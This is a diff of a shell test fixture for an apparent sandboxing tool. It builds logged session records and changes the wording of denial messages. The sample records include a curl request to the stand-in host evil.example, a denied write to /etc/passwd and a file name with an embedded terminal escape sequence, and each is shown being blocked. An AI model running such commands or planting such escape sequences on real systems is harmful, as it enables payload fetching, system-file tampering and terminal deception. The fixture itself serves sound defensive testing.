@@ -71,7 +71,7 @@ rec old2 $((tOLD + 5)) end $S_OLD ',"exit_status":0,"signal":0,"wall_ms":5000,"c
 rec curl1 $tCURL start $S_CURL ',"version":"0.1.0","argv":["curl","-s","https://evil.example/x"],"cwd":"/w","uid":1000,"policy":{},"layers":[]' \
 	'curl -s https://evil.example/x  in /w'
 rec curl2 $((tCURL + 1)) denial $S_CURL ',"kind":"connect","target":"evil.example","port":443,"rule":"not in --allow"' \
-	'connect evil.example:443 (not in --allow)'
+	'connect evil.example:443: not in --allow'
 rec curl3 $((tCURL + 2)) end $S_CURL ',"exit_status":6,"signal":0,"wall_ms":1200,"cpu_ms":30,"peak_memory":0' \
 	'exit 6, 1.2s wall, 30ms CPU, peak memory unknown'
 
@@ -89,14 +89,14 @@ rec sh5 $((tSH + 4)) net $S_SH ',"host":"evil.example","port":80,"verdict":"deni
 raw bad1 $((tSH + 4)) '{"type":"net","ts": oops'
 raw bad2 $((tSH + 4)) "{\"type\":\"end\",\"ts\":\"$(ts_of $((tSH + 4)))\",\"schema\":2,\"session\":\"$S_SH\"}"
 rec sh6 $((tSH + 5)) denial $S_SH ',"kind":"write","target":"/etc/passwd","rule":"outside writable roots","count":2' \
-	'write /etc/passwd (outside writable roots), 2 times'
+	'write /etc/passwd: outside writable roots (2 times)'
 rec sh7 $((tSH + 6)) end $S_SH ',"exit_status":1,"signal":0,"wall_ms":6500,"cpu_ms":2100,"peak_memory":83886080,"denials":3' \
 	'exit 1, 6.5s wall, 2.1s CPU, 80.0 MiB peak, 3 denials'
 
 rec ls1 $tLS start $S_LS ',"version":"0.1.0","argv":["ls","-la"],"cwd":"/w","uid":1000,"policy":{},"layers":[]' \
 	'ls -la  in /w'
 rec ls2 $((tLS + 1)) denial $S_LS ',"kind":"write","target":"/w/\u001B[2Jx","rule":"outside writable roots"' \
-	"write \$'/w/\\x1b[2Jx' (outside writable roots)"
+	"write \$'/w/\\x1b[2Jx': outside writable roots"
 rec ls3 $((tLS + 2)) end $S_LS ',"exit_status":137,"signal":9,"wall_ms":60000,"cpu_ms":5,"peak_memory":1024' \
 	'exit 137 (signal 9), 1m00s wall, 5ms CPU, 1.0 KiB peak'
 
